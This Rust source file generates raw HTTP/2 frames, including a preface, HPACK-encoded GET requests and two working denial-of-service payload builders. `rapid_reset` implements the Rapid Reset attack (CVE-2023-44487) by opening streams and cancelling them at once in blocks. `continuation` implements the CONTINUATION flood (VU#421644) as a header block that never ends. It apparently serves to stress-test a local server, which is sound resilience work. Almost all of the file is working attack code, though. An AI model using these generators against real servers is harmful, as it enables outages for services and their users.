//! Frames of HTTP/2 (RFC 9113) that no client library sends.

const DATA_END: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;
const INITIAL_WINDOW_SIZE: u16 = 0x4;
const CANCEL: u32 = 0x8;
/// Requests in one block of frames.
const BLOCK: u32 = 50;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// Returns the start of a connection: the preface and the settings.
pub fn preface(window: Option<u32>) -> Vec<u8> {
    let mut settings = Vec::new();
    if let Some(window) = window {
        settings.extend(INITIAL_WINDOW_SIZE.to_be_bytes());
        settings.extend(window.to_be_bytes());
    }
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &settings)].concat()
}

/// Returns the header block of a GET (HPACK, RFC 7541: indexed fields 2 and 6, literals with indexed names 4 and 1).
fn head(path: &str) -> Vec<u8> {
    let literal = |name: u8, value: &str| [&[name, value.len() as u8], value.as_bytes()].concat();
    [vec![0x82, 0x86], literal(0x04, path), literal(0x01, "localhost")].concat()
}

/// Returns a GET request on a stream.
pub fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | DATA_END, stream, &head(path))
}

/// Returns requests that are canceled at once (CVE-2023-44487).
pub fn rapid_reset(block: u32) -> Vec<u8> {
    let requests = (0..BLOCK).map(|number| {
        let stream = 1 + 2 * (block * BLOCK + number);
        [get(stream, "/openapi.json"), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
    });
    requests.flatten().collect()
}

/// Returns a request head that never ends (VU#421644).
pub fn continuation(block: u32) -> Vec<u8> {
    // A literal field without indexing: `x: x...`.
    let field = [&[0x00, 1, b'x', 100][..], &[b'x'; 100]].concat();
    let more = |_| frame(CONTINUATION, 0, 1, &field);
    let begin = if block == 0 { frame(HEADERS, 0, 1, &head("/")) } else { Vec::new() };
    begin.into_iter().chain((0..BLOCK).flat_map(more)).collect()
}
